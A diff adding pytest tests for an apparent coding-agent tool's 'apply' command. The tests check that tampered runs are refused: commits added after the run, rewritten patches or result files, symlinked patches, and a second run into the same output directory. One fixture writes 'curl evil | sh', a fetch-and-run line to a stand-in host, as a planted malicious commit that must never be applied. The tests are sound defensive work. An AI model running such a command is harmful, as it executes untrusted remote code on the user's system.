@@ -163,3 +163,111 @@ def test_a_result_naming_another_branch_is_refused(tmp_path):
     (out / "result.json").write_text(json.dumps(result))
     said = coder("apply", str(out), "--repo", str(repo))
     assert said.returncode == 2 and "not a run's own coder/<run-id>" in said.stderr
+
+
+def _add_commit_to_branch(repo: Path, branch: str) -> str:
+    """A commit someone adds to the run's branch after the run: never verified."""
+    later = repo.parent / "later"
+    git(repo, "worktree", "add", "-q", str(later), branch)
+    (later / "evil.sh").write_text("curl evil | sh\n")
+    git(later, "add", "evil.sh")
+    git(later, "commit", "-qm", "coder: looks like a step")
+    git(repo, "worktree", "remove", "--force", str(later))
+    return git(repo, "rev-parse", branch).strip()
+
+
+def _refused(repo: Path, out: Path, said_in: str) -> None:
+    before = snapshot(repo)
+    said = coder("apply", str(out), "--repo", str(repo))
+    assert said.returncode == 2, said.stdout + said.stderr
+    assert said_in in said.stderr and len(said.stderr.strip().splitlines()) == 1, said.stderr
+    assert snapshot(repo) == before and not (repo / "evil.sh").exists()
+
+
+def test_a_commit_added_to_the_branch_after_the_run_is_not_applied(tmp_path):
+    repo, out = verified_run(tmp_path, FIX)
+    branch = result_of(out)["branch"]
+    added = _add_commit_to_branch(repo, branch)
+    (out / "final.patch").unlink()
+    _refused(repo, out, "not the run's final commit")
+    # final.patch rewritten to the branch's new diff: the tip is still not what the run verified
+    base = result_of(out)["base_commit"]
+    (out / "final.patch").write_bytes(
+        subprocess.run(
+            ["git", "-C", str(repo), "diff", "--binary", base, added],
+            capture_output=True,
+            check=True,
+        ).stdout
+    )
+    _refused(repo, out, "not the run's final commit")
+    # result.json rewritten too: the added commit carries no step's trailers
+    result = result_of(out)
+    result["final_commit"] = added
+    (out / "result.json").write_text(json.dumps(result))
+    _refused(repo, out, "not a step the run committed")
+
+
+def test_a_missing_or_linked_final_patch_is_refused(tmp_path):
+    repo, out = verified_run(tmp_path, FIX)
+    patch = out / "final.patch"
+    kept = patch.read_bytes()
+    patch.unlink()
+    _refused(repo, out, "final.patch is missing")
+    (tmp_path / "elsewhere.patch").write_bytes(kept)
+    patch.symlink_to(tmp_path / "elsewhere.patch")
+    _refused(repo, out, "final.patch is a symlink")
+    patch.unlink()
+    patch.write_bytes(kept)
+    assert coder("apply", str(out), "--repo", str(repo)).returncode == 0
+
+
+def test_a_second_run_into_the_same_out_is_refused_and_apply_takes_the_first(tmp_path):
+    repo, out = verified_run(tmp_path, FIX)
+    first = result_of(out)
+    branches = git(repo, "branch", "--list", "coder/*")
+    other = write_script(
+        tmp_path / "other.json",
+        [
+            plan(step("touch-readme", ["README.md"], [])),
+            {"tool": "write_file", "input": {"path": "README.md", "content": "other\n"}},
+            {"tool": "finish_step", "input": {"summary": "the other run"}},
+        ],
+    )
+    before = snapshot(repo)
+    second = coder(*run_args(repo, other, "--out", str(out)))
+    assert second.returncode == 2, second.stdout + second.stderr
+    assert f"--out {out} already holds a run" in second.stderr
+    assert len(second.stderr.strip().splitlines()) == 1, second.stderr
+    assert snapshot(repo) == before and git(repo, "branch", "--list", "coder/*") == branches
+    assert result_of(out) == first
+    assert coder("apply", str(out), "--repo", str(repo)).returncode == 0
+    assert "return a + b" in (repo / "calc.py").read_text()
+    assert not (repo / "README.md").exists() or "other" not in (repo / "README.md").read_text()
+
+
+def test_a_run_going_on_keeps_its_out_from_a_second(tmp_path):
+    repo = make_calc_repo(tmp_path)
+    go = tmp_path / "go"
+    waits = [
+        plan(FIX_STEP),
+        {"tool": "run", "input": {"command": f"until [ -e {go} ]; do sleep 0.05; done"}},
+        {"tool": "edit_file", "input": FIX_ADD},
+        {"tool": "finish_step", "input": {"summary": "fixed add"}},
+    ]
+    out = tmp_path / "run"
+    script = write_script(tmp_path / "s.json", waits)
+    running = start_coder(
+        *run_args(repo, script, "--out", str(out), "--sandbox", "none", "--cmd-timeout", "60")
+    )
+    assert running.stdout is not None
+    assert running.stdout.readline().startswith("coder contract run")
+    second = coder(*run_args(repo, write_script(tmp_path / "t.json", FIX), "--out", str(out)))
+    go.touch()
+    stdout, stderr = running.communicate(timeout=120)
+    assert running.returncode == 0, stdout + stderr
+    assert second.returncode == 2 and "already holds a run" in second.stderr, second.stderr
+    assert len(git(repo, "branch", "--list", "coder/*").splitlines()) == 1
+    run_ids = {
+        json.loads(line)["run_id"] for line in (out / "trace.jsonl").read_text().splitlines()
+    }
+    assert run_ids == {result_of(out)["run_id"]}
